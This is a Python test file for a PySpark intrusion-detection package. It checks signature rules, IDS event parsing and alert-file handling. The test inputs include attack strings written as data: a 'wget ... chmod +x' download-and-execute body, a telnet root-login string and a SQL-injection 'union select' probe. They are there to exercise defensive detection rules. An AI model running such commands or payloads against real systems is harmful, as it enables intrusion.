"""Signature rules, event parsing and tolerant alert files."""
from pyspark.sql import functions as F


def test_attack_uris_match_rules(spark):
    from netlens.operators.alerts import match_rules
    from netlens.sources.derived import ATTACK_URIS
    req = spark.createDataFrame(
        [(i, "http://h" + u, "", 6, 80) for i, u in enumerate(ATTACK_URIS)]
        + [(10, "http://h/index.html?q=a+b", "wget http://x/a; chmod +x a", 6, 80),
           (11, "/", "login: root", 6, 23), (12, "/%zz", "", 6, 80)],
        "request_id long, uri string, body string, proto int, dport int")
    got = {}
    for r in match_rules(req).collect():
        got.setdefault(r["request_id"], set()).add(r["sid"])
    assert got[0] == {1000001}
    assert got[1] == {1000003}
    assert got[2] == {1000004}
    assert got[3] == {1000002}
    assert got[10] == {1000005}
    assert got[11] == {1000006, 1000007}
    assert 12 not in got                       # bad escape: raw text, nothing matches


def test_parse_filter_and_alert_rows(spark):
    from netlens.operators.alerts import events_to_alerts, filter_events, parse_events
    lines = spark.createDataFrame([
        ('{"event_type":"alert","timestamp":"2026-06-22T10:00:00.000000+0000","src_ip":"1.1.1.1",'
         '"dest_ip":"2.2.2.2","alert":{"signature":"LOCAL XSS","severity":1}}',),
        ('{"event_type":"alert","timestamp":"2026-06-22T10:00:01+0000","alert":{"signature":"x"}}',),
        ('{"event_type":"alert","timestamp":"bad","alert":{"signature":"ENGINE STREAM x","severity":1}}',),
        ('{"event_type":"flow"}',), ("",), ("{broken",)], "value string")
    ev = parse_events(lines)
    assert ev.count() == 4
    assert [r["signature"] for r in filter_events(ev).collect()] == ["LOCAL XSS"]
    al = {r["label"]: r for r in events_to_alerts(ev).collect()}
    assert al["DPI: LOCAL XSS (sev 1)"]["source"] == "1.1.1.1->2.2.2.2"
    assert str(al["DPI: LOCAL XSS (sev 1)"]["ts"]) == "2026-06-22 10:00:00"
    assert al["DPI: x"]["source"] == "?->?"
    assert al["DPI: ENGINE STREAM x (sev 1)"]["ts"] is None


def test_alert_files_roundtrip_and_tolerance(spark, tmp_dir):
    from netlens.operators.alerts import read_alerts, write_alerts
    assert read_alerts(spark, f"{tmp_dir}/missing").count() == 0
    df = spark.createDataFrame([("2026-01-01 00:00:00", "DDoS", "a"), ("garbage", "XSS", "b")],
                               "ts string, label string, source string")
    write_alerts(df, f"{tmp_dir}/alerts")
    write_alerts(df.limit(1), f"{tmp_dir}/alerts")          # append
    back = read_alerts(spark, f"{tmp_dir}/alerts")
    assert back.count() == 3
    assert back.filter(F.col("ts").isNull()).count() == 1
    spark.createDataFrame([("x",)], "label string").write.option("header", True) \
        .csv(f"{tmp_dir}/partial")
    p = read_alerts(spark, f"{tmp_dir}/partial").first()
    assert p["source"] == "" and p["ts"] is None


def test_drop_categories(spark):
    from netlens.operators.alerts import drop_categories
    df = spark.createDataFrame([("ET INFO x",), ("ET SCAN y",), ("GPL NETBIOS z",)], "signature string")
    assert [r[0] for r in drop_categories(df).collect()] == ["ET SCAN y"]


def test_sql_rule_spans_lines(spark):
    """The pattern has no limit to one line: an escaped line break does not hide it."""
    from netlens.operators.alerts import match_rules
    req = spark.createDataFrame([(1, "/?q=union%0aselect", "", 6, 80), (2, "/?q=union", "", 6, 80)],
                                "request_id int, uri string, body string, proto int, dport int")
    assert [(r["request_id"], r["sid"]) for r in match_rules(req).collect()] == [(1, 1000001)]


def test_alert_file_errors_are_raised(spark, tmp_dir):
    """Only a missing folder reads as no alerts."""
    import pytest
    from netlens.operators.alerts import read_alerts
    from netlens.sources.files import read_if_present
    assert read_alerts(spark, f"{tmp_dir}/none").count() == 0
    with pytest.raises(Exception, match="bad"):
        read_if_present(lambda: (_ for _ in ()).throw(PermissionError("bad")))


def test_timeline_range_is_a_parameter(spark):
    import datetime as dt
    from netlens.operators.alerts import timeline
    rows = [(dt.datetime(2024, 1, 1, 0, 0, s), "x", "y") for s in (1, 12, 31)] + [(dt.datetime(1970, 1, 1), "x", "y")]
    a = spark.createDataFrame(rows, "ts timestamp_ntz, label string, source string")
    got = timeline(a, 10, start=dt.datetime(2024, 1, 1)).orderBy("bin").collect()
    assert [r["alerts"] for r in got] == [1, 1, 0, 1]
